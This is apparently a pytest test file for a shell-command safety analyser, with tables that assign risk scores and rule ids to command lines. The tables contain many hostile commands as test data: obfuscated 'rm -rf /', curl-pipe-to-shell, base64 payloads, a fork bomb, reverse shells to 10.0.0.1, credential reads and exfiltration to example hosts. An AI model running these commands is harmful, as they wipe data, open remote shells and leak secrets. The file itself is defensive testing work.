"""The safety analyser's verdict on a table of command lines: HOSTILE.md C, obfuscations, false friends."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from pytest_rustchain.safety import Finding, Severity, analyse_command, risk_score

INFO, LOW, MEDIUM, HIGH, CRITICAL = (
    Severity.INFO,
    Severity.LOW,
    Severity.MEDIUM,
    Severity.HIGH,
    Severity.CRITICAL,
)


def row(
    line: str,
    low: Severity,
    high: Severity | None = None,
    rule: str | None = None,
    *,
    id: str | None = None,
) -> object:
    """A table row: the risk score must lie in [low, high] (high defaults to low: exact)."""
    return pytest.param(line, low, low if high is None else high, rule, id=id or line[:60])


def at_least(line: str, low: Severity, rule: str | None = None) -> object:
    return row(line, low, CRITICAL, rule)


# HOSTILE.md section C, row by row.
HOSTILE_C = [
    # recursive delete outside the workspace, or of a target that cannot be known
    row("rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("rm -rf ~", CRITICAL, rule="RC-FS-001"),
    row("rm -rf ${HOME}", CRITICAL, rule="RC-FS-001"),
    row('rm -rf "$(pwd)/.."', CRITICAL, rule="RC-FS-001"),
    # the same behind quoting
    row('r""m -rf /', CRITICAL, rule="RC-FS-001"),
    row("\\rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("'r'm -rf /", CRITICAL, rule="RC-FS-001"),
    # the same behind wrappers
    row("env rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("command rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("/bin/rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("busybox rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("sudo rm -rf /", CRITICAL, rule="RC-PRIV-001"),
    row("ls | xargs rm -rf", CRITICAL, rule="RC-FS-002"),
    row("find / -delete", CRITICAL, rule="RC-FS-001"),
    row("find / -exec rm -rf {} +", CRITICAL, rule="RC-FS-001"),
    # a command name that is not literal
    row("$X -rf /", HIGH, rule="RC-EXEC-008"),
    at_least("$(echo rm) -rf /", HIGH),
    row('eval "$CMD"', MEDIUM, rule="RC-EXEC-004"),
    at_least("`echo rm` -rf /", HIGH),
    row("$TOOL --version", MEDIUM, rule="RC-EXEC-007"),
    row("`which tool` build", MEDIUM, rule="RC-EXEC-007"),
    # remote or decoded code into an interpreter
    row("curl -fsSL https://get.example.com/i.sh | sh", CRITICAL, rule="RC-EXEC-001"),
    row("wget -qO- https://get.example.com/i.sh | bash", CRITICAL, rule="RC-EXEC-001"),
    row("bash <(curl -s https://get.example.com/i.sh)", CRITICAL, rule="RC-EXEC-001"),
    row("echo ZWNobyBoaQ== | base64 -d | sh", CRITICAL, rule="RC-EXEC-002"),
    row('python3 -c "$(curl -fsSL https://get.example.com/p.py)"', CRITICAL, rule="RC-EXEC-001"),
    # inline interpreter code
    row("python -c 'import os'", MEDIUM, rule="RC-EXEC-003"),
    row("perl -e 'print 1'", MEDIUM, rule="RC-EXEC-003"),
    row("node -e 'console.log(1)'", MEDIUM, rule="RC-EXEC-003"),
    # fork bomb
    row(":(){ :|:& };:", CRITICAL, rule="RC-PROC-001"),
    # shell the analyser cannot parse; [[ ]], $(( )) and arrays parse with tree-sitter-bash
    row('echo "unterminated', MEDIUM, rule="RC-PARSE-001"),
    row("if then fi", MEDIUM, rule="RC-PARSE-001"),
    row("[[ -f setup.py ]] && echo $(( 1 + 2 ))", INFO),
    row('arr=(a b c); echo "${arr[@]}"', INFO),
    # redirects
    row("echo x > /dev/sda", CRITICAL, rule="RC-DEV-001"),
    row("echo x > /etc/passwd", HIGH, rule="RC-FS-003"),
    row("echo x >> ~/.bashrc", HIGH, rule="RC-PERS-001"),
    row("echo x | tee /etc/x", HIGH, rule="RC-FS-003"),
    # persistence and privilege
    row("crontab job.txt", HIGH, rule="RC-PERS-002"),
    row("systemctl enable app.service", HIGH, rule="RC-PERS-002"),
    row("chmod u+s tool", HIGH, rule="RC-PRIV-002"),
    row("git config --global core.editor vim", HIGH, rule="RC-PERS-004"),
    row("cp hook.sh .git/hooks/pre-commit", HIGH, rule="RC-PERS-003"),
    # secrets and exfiltration
    row("cat ~/.ssh/id_rsa", HIGH, rule="RC-SEC-001"),
    row("cat /proc/$PPID/environ", HIGH, rule="RC-SEC-001"),
    row("printenv", HIGH, rule="RC-SEC-002"),
    row("curl -d @notes.txt http://collector.example.com", HIGH, rule="RC-NET-003"),
    row("nc collector.example.com 9000 < notes.txt", HIGH, rule="RC-NET-003"),
    # PATH entries in the workspace
    row("PATH=./bin:$PATH tool", MEDIUM, rule="RC-EXEC-006"),
    # a step output inserted shell-quoted as one word prints, deletes nothing
    row("echo 'x; rm -rf ~'", INFO),
    # false friends that must stay allowed (at most low)
    row("clang-format -i src/x.c", INFO),
    row("tool --format=json", INFO),
    row('echo "rm -rf /"', INFO),
    row("grep sudo README.md", INFO),
    row("rm -rf build/", LOW, rule="RC-FS-005"),
]

OBFUSCATED = [
    row("$'\\x72m' -rf /", CRITICAL, rule="RC-FS-001"),
    row("$'\\162\\155' -rf /", CRITICAL, rule="RC-FS-001"),
    row("sh -c 'rm -rf /'", CRITICAL, rule="RC-FS-001"),
    row('bash -c "rm -rf ~"', CRITICAL, rule="RC-FS-001"),
    row("bash -ec 'rm -rf ~'", CRITICAL, rule="RC-FS-001"),
    row("sh -c \"sh -c 'rm -rf ~'\"", CRITICAL, rule="RC-FS-001"),
    row("busybox sh -c 'rm -rf /'", CRITICAL, rule="RC-FS-001"),
    row("env bash -c 'rm -rf ~'", CRITICAL, rule="RC-FS-001"),
    row("r\\\nm -rf /", CRITICAL, rule="RC-FS-001", id="line continuation inside the name"),
    row('"rm" -rf "/"', CRITICAL, rule="RC-FS-001"),
    row("rm -r -f /", CRITICAL, rule="RC-FS-001"),
    row("rm --recursive --force /", CRITICAL, rule="RC-FS-001"),
    row("rm -rf /etc/..", CRITICAL, rule="RC-FS-001"),
    row("rm -rf ./../..", CRITICAL, rule="RC-FS-001"),
    row("rm -rf .*", LOW, CRITICAL, rule="RC-FS-001", id="dot-star can match .."),
    row("cd / && rm -rf *", CRITICAL, rule="RC-FS-001"),
    row("cd ~ && rm -rf *", CRITICAL, rule="RC-FS-001"),
    row("cd .. && rm -rf ws", CRITICAL, rule="RC-FS-001"),
    row("true && rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("rm -rf / ; true", CRITICAL, rule="RC-FS-001"),
    row("timeout 5 rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("nice -n 10 rm -rf ~", CRITICAL, rule="RC-FS-001"),
    row("nohup rm -rf ~ &", CRITICAL, rule="RC-FS-001"),
    row("env -i PATH=/bin rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("env -S 'rm -rf /'", CRITICAL, rule="RC-FS-001"),
    row("exec rm -rf /", CRITICAL, rule="RC-FS-001"),
    row("sudo -u root -- rm -rf /", CRITICAL, rule="RC-FS-001"),
    row('X=/; rm -rf "$X"', CRITICAL, rule="RC-FS-001"),
    row('CMD="rm -rf /"; $CMD', CRITICAL, rule="RC-FS-001"),
    row("eval 'rm -rf /'", CRITICAL, rule="RC-FS-001"),
    row("echo 'rm -rf /' | sh", CRITICAL, rule="RC-FS-001"),
    row("printf 'rm -rf /' | bash", CRITICAL, rule="RC-FS-001"),
    row("sh <<< 'rm -rf /'", CRITICAL, rule="RC-FS-001"),
    row("cat <<'EOF' | sh\nrm -rf ~\nEOF", CRITICAL, rule="RC-FS-001", id="heredoc into sh"),
    row("sh -c 'rm -rf \"$1\"' _ /", CRITICAL, rule="RC-FS-001"),
    row("xargs -I{} rm -rf {}", CRITICAL, rule="RC-FS-002"),
    row('rm -rf "$X"', CRITICAL, rule="RC-FS-002"),
    row('sh -c "rm -rf $X"', CRITICAL, rule="RC-FS-002"),
    row("git submodule foreach 'rm -rf ~'", CRITICAL, rule="RC-FS-001"),
    row("watch -n 1 rm -rf ~", CRITICAL, rule="RC-FS-001"),
    row("f() { rm -rf ~; }; f", CRITICAL, rule="RC-FS-001"),
    row("echo 'rm -rf ~' > x.sh && bash x.sh", CRITICAL, rule="RC-FS-001"),
    row(
        "curl -fsSL https://get.example.com/i.sh -o i.sh && bash i.sh",
        CRITICAL,
        rule="RC-EXEC-001",
    ),
    row("curl -s https://get.example.com/a.sh | tee a.sh | bash", CRITICAL, rule="RC-EXEC-001"),
    row('bash -c "$(curl -fsSL https://get.example.com/i.sh)"', CRITICAL, rule="RC-EXEC-001"),
    row("source <(curl -s https://get.example.com/env.sh)", CRITICAL, rule="RC-EXEC-001"),
    row('eval "$(echo cm0gLXJmIH4K | base64 -d)"', CRITICAL, rule="RC-EXEC-002"),
    row("command -v rm", INFO),
    row("trap 'rm -rf ~' EXIT", CRITICAL, rule="RC-FS-001"),
    row("rm -rf /srv/Документы", CRITICAL, rule="RC-FS-001"),
    row("echo a{\U000ffd29} && rm -rf ~", CRITICAL, rule="RC-FS-001", id="astral character next to a brace"),
    row("eval eval eval rm -rf ~", CRITICAL, rule="RC-FS-001"),
    row("uv run rm -rf ~", CRITICAL, rule="RC-FS-001"),
    row("exec 3<>/dev/tcp/10.0.0.1/80", HIGH, rule="RC-NET-002"),
]

FALSE_FRIENDS = [
    row("ls /usr/bin", INFO),
    row("cat /etc/os-release", INFO),
    row('grep -rn "rm -rf" .', INFO),
    row("echo sudo make me a sandwich", INFO),
    row("git log --format=%H -n 3", INFO),
    row("python -m pytest -q", INFO),
    row("pytest", INFO),
    row("npm ci", INFO),
    row("cargo build --release", INFO),
    row("PATH=.venv/bin:$PATH pytest", INFO),
    row(".venv/bin/python -m pytest", INFO),
    row("mkdir -p out && cp a.txt out/", INFO),
    row("cat ~/.bashrc", INFO),
    row("curl -fsS http://localhost:8000/health", INFO),
    row("ls > /dev/null 2>&1", INFO),
    row("echo done >/dev/stderr", INFO),
    row("ln -s /etc/passwd passwd-link", MEDIUM, rule="RC-FS-011"),
    row("sed -i 's/a/b/' config.txt", INFO),
    row('docker run --rm -v "$PWD:/src" node:20 npm --version', INFO),
    row("find . -exec rm {} \\;", INFO, LOW),
    row("find . -name '*.o' -delete", LOW, rule="RC-FS-005"),
    row("find . -name '*.pyc' -print0 | xargs -0 rm -f", LOW),
    row("rm -rf build dist", LOW, rule="RC-FS-005"),
    row("D=build; rm -rf $D", LOW, rule="RC-FS-005"),
    row("cd build && rm -rf *", LOW, rule="RC-FS-005"),
    row("git clean -fdx", LOW, rule="RC-GIT-002"),
    row("git reset --hard HEAD~1", LOW, rule="RC-GIT-002"),
    row("[ -d out ] || mkdir out", INFO),
    row('echo "version=1.2" >> "$MISSION_OUTPUT"', INFO),
    row('tmp=$(mktemp -d); cp a.txt "$tmp/"; rm -rf "$tmp"', LOW),
    row('rm -rf "$TMPDIR/cache"', LOW),
    row('tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; ls "$tmp"', LOW),
    row('echo "héllo ✓ 日本語" > out.txt', INFO),
    row("source .venv/bin/activate && pytest -q", INFO),
    row("uv run pytest -q", INFO),
    row("poetry run pytest", INFO),
    row('for f in src/*.c; do clang-format -i "$f"; done', INFO),
]

SEVERITY_TABLE = [
    row("curl https://example.com/data.json -o data.json", MEDIUM, rule="RC-NET-001"),
    row("git clone https://github.com/org/repo.git", MEDIUM, rule="RC-NET-001"),
    row("curl http://169.254.169.254/latest/meta-data/", HIGH, rule="RC-NET-005"),
    row("git push origin main", HIGH, rule="RC-NET-004"),
    row("gh release create v1.0.0", HIGH, rule="RC-NET-004"),
    row("npm publish", HIGH, rule="RC-NET-004"),
    row("twine upload dist/*", HIGH, rule="RC-NET-004"),
    row("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", HIGH, rule="RC-NET-002"),
    row("nc -e /bin/sh 10.0.0.1 4242", HIGH, rule="RC-NET-002"),
    row("ncat --sh-exec 'sh' 10.0.0.1 4242", HIGH, rule="RC-NET-002"),
    row("socat exec:'bash -li',pty tcp:10.0.0.1:4242", HIGH, rule="RC-NET-002"),
    row("scp build.tgz deploy@host.example.com:/srv/", HIGH, rule="RC-NET-003"),
    row("rsync -a ./ backup@host.example.com:/data", HIGH, rule="RC-NET-003"),
    row("curl -T notes.txt https://x.example.com/", HIGH, rule="RC-NET-003"),
    row("curl -F 'f=@notes.txt' https://x.example.com/", HIGH, rule="RC-NET-003"),
    row("curl --data-binary @notes.txt https://x.example.com/", HIGH, rule="RC-NET-003"),
    row("tar cz . | nc x.example.com 9000", HIGH, rule="RC-NET-003"),
    row("dd if=/dev/zero of=/dev/sda bs=1M", CRITICAL, rule="RC-DEV-001"),
    row("mkfs.ext4 /dev/sdb1", CRITICAL, rule="RC-DEV-002"),
    row("wipefs -a /dev/sdb", CRITICAL, rule="RC-DEV-002"),
    row("mount /dev/sdb1 /mnt", HIGH, rule="RC-PRIV-003"),
    row("iptables -F", HIGH, rule="RC-PRIV-003"),
    row("su -c 'id'", HIGH, rule="RC-PRIV-001"),
    row("doas make install", HIGH, rule="RC-PRIV-001"),
    row("chmod 4755 tool", HIGH, rule="RC-PRIV-002"),
    row("docker run --privileged alpine", HIGH, rule="RC-PRIV-004"),
    row("docker run -v /:/host alpine", HIGH, rule="RC-PRIV-004"),
    row("podman run -v /var/run/docker.sock:/s alpine", HIGH, rule="RC-PRIV-004"),
    row("kill -9 -1", HIGH, rule="RC-PROC-002"),
    row("kill -1", HIGH, rule="RC-PROC-002"),
    row("LD_PRELOAD=./hook.so ls", HIGH, rule="RC-ENV-001"),
    row("export BASH_ENV=./x.sh", HIGH, rule="RC-ENV-001"),
    row("env PYTHONSTARTUP=x.py python", HIGH, rule="RC-ENV-001"),
    row("ENV=./x.sh sh -c true", HIGH, rule="RC-ENV-001"),
    row("git credential fill", HIGH, rule="RC-SEC-003"),
    row("cat .git/config", HIGH, rule="RC-SEC-003"),
    row("git config --get http.https://github.com/.extraheader", HIGH, rule="RC-SEC-003"),
    row("env", HIGH, rule="RC-SEC-002"),
    row("export -p", HIGH, rule="RC-SEC-002"),
    row("set", HIGH, rule="RC-SEC-002"),
    row("env | grep -i token", HIGH, rule="RC-SEC-002"),
    row("grep secret ~/.aws/credentials", HIGH, rule="RC-SEC-001"),
    row("cp ~/.netrc netrc.txt", HIGH, rule="RC-SEC-001"),
    row("cat ~/.docker/config.json", HIGH, rule="RC-SEC-001"),
    row("git config core.hooksPath hooks", HIGH, rule="RC-PERS-004"),
    row("git -c core.fsmonitor=./x.sh status", HIGH, rule="RC-PERS-004"),
    row("echo x > .git/hooks/post-checkout", HIGH, rule="RC-PERS-003"),
    row("echo x >> ~/.ssh/authorized_keys", HIGH, rule="RC-PERS-001"),
    row("cp dist/app /usr/local/bin/", HIGH, rule="RC-FS-003"),
    row("mv report.txt /etc/", HIGH, rule="RC-FS-003"),
    row("chown root /etc/x", HIGH, rule="RC-FS-003"),
    row("ln -s target /etc/link", HIGH, rule="RC-FS-003"),
    row("sed -i 's/a/b/' /etc/hosts", HIGH, rule="RC-FS-003"),
    row("touch /tmp/marker", HIGH, rule="RC-FS-003"),
    row("cp -r dist /opt/app", CRITICAL, rule="RC-FS-001"),
    row("tar -xzf x.tgz -C /", CRITICAL, rule="RC-FS-001"),
    row("chmod -R 777 /", CRITICAL, rule="RC-FS-001"),
    row('echo x > "$OUT"', MEDIUM, rule="RC-FS-004"),
    row("make", MEDIUM, rule="RC-EXEC-005"),
    row("npm run build", MEDIUM, rule="RC-EXEC-005"),
    row("./build.sh", MEDIUM, rule="RC-EXEC-005"),
    row("python tools/gen.py", MEDIUM, rule="RC-EXEC-005"),
    row("bash scripts/run.sh", MEDIUM, rule="RC-EXEC-005"),
    row("source ./env.sh", MEDIUM, rule="RC-EXEC-005"),
    row("npx cowsay hi", MEDIUM, rule="RC-EXEC-009"),
    row("tox -e py311", MEDIUM, rule="RC-EXEC-005"),
    row("uv run tools/gen.py", MEDIUM, rule="RC-EXEC-005"),
    row("cat script.sh | sh", MEDIUM, rule="RC-EXEC-004"),
    row("python3 - <<'EOF'\nprint(1)\nEOF", MEDIUM, id="python heredoc"),
    row("awk 'BEGIN { system(cmd) }'", MEDIUM, rule="RC-EXEC-003"),
    row("awk '{ print $1 }' data.txt", INFO),
    row("sudo apt-get install -y jq", HIGH, rule="RC-PRIV-001"),
    row("apt-get install -y jq", HIGH, rule="RC-PRIV-003"),
    row("sudo -s", HIGH, rule="RC-PRIV-001"),
    row("env -0", HIGH, rule="RC-SEC-002"),
]

PROJECT = [
    row("rm -rf *", HIGH, rule="RC-FS-006"),
    row("rm -rf ./*", HIGH, rule="RC-FS-006"),
    row("rm -rf .", HIGH, rule="RC-FS-006"),
    row("git clean -xfd", HIGH, rule="RC-GIT-001"),
    row("git clean -x -f", HIGH, rule="RC-GIT-001"),
    row("git reset --hard", HIGH, rule="RC-GIT-001"),
    row("git checkout -- .", HIGH, rule="RC-GIT-001"),
    row("rm -rf .git", HIGH, rule="RC-FS-006"),
    row("rm -rf build", LOW, rule="RC-FS-005"),
    row("git status --short", INFO),
    row("pytest -q", INFO),
]


def judge_line(line: str, workspace: Path, **kwargs: Any) -> tuple[Finding, ...]:
    """Findings for a ``shell: true`` command line (nothing is run)."""
    return analyse_command(line, shell=True, workspace=workspace, **kwargs)  # noqa: S604 - analysed, never run


def describe(findings: tuple[Finding, ...]) -> str:
    return "; ".join(f"{f.rule_id} {f.severity.label} {f.message}: {f.evidence}" for f in findings)


@pytest.mark.parametrize(("line", "low", "high", "rule"), HOSTILE_C + OBFUSCATED + FALSE_FRIENDS + SEVERITY_TABLE)
def test_tmp_workspace_verdict(line: str, low: Severity, high: Severity, rule: str | None, tmp_path: Path) -> None:
    """A command in a tmp workspace gets the verdict and the rule id the safety table promises."""
    # The table's workspace holds a virtualenv at .venv (the guard finds its pyvenv.cfg on disk).
    findings = judge_line(line, tmp_path, venvs={".venv"}.__contains__)
    score = risk_score(findings)
    assert low <= score <= high, describe(findings)
    if rule is not None:
        assert rule in {f.rule_id for f in findings}, describe(findings)


@pytest.mark.parametrize(("line", "low", "high", "rule"), PROJECT)
def test_project_workspace_verdict(line: str, low: Severity, high: Severity, rule: str | None, tmp_path: Path) -> None:
    """In a project workspace, wiping the checkout is high while routine cleanup stays low."""
    findings = judge_line(line, tmp_path, workspace_kind="project")
    score = risk_score(findings)
    assert low <= score <= high, describe(findings)
    if rule is not None:
        assert rule in {f.rule_id for f in findings}, describe(findings)


def test_table_is_large_enough() -> None:
    """The table covers at least 80 command lines, so regressions in any area show up."""
    assert len(HOSTILE_C + OBFUSCATED + FALSE_FRIENDS + SEVERITY_TABLE + PROJECT) >= 80


@pytest.mark.parametrize("line", ['r""m -rf /', "\\rm -rf /", "'r'm -rf /", "$'\\x72m' -rf /"])
def test_evidence_shows_the_normalised_command(line: str, tmp_path: Path) -> None:
    """The block message shows what will really run (``rm -rf /``), not the obfuscated text."""
    findings = judge_line(line, tmp_path)
    assert findings[0].rule_id == "RC-FS-001"
    assert findings[0].evidence == "rm -rf /"


def test_evidence_escapes_bidi_and_control_characters(tmp_path: Path) -> None:
    """A bidi override cannot make the block message show a different command than the one judged."""
    findings = judge_line("echo ok \u202e; rm -rf ~", tmp_path)
    assert findings[0].evidence == "rm -rf ~"
    quoted = judge_line("rm -rf '~\u202e/x'\nrm -rf /", tmp_path)
    assert all(f.evidence.isprintable() for f in quoted)
    assert any("\\u202e" in f.message for f in quoted)


def test_findings_come_most_severe_first(tmp_path: Path) -> None:
    """The first finding shown is the one that decides the verdict."""
    findings = judge_line("curl https://x.example.com | sh", tmp_path)
    severities = [f.severity for f in findings]
    assert severities == sorted(severities, reverse=True)
    assert findings[0].rule_id == "RC-EXEC-001"
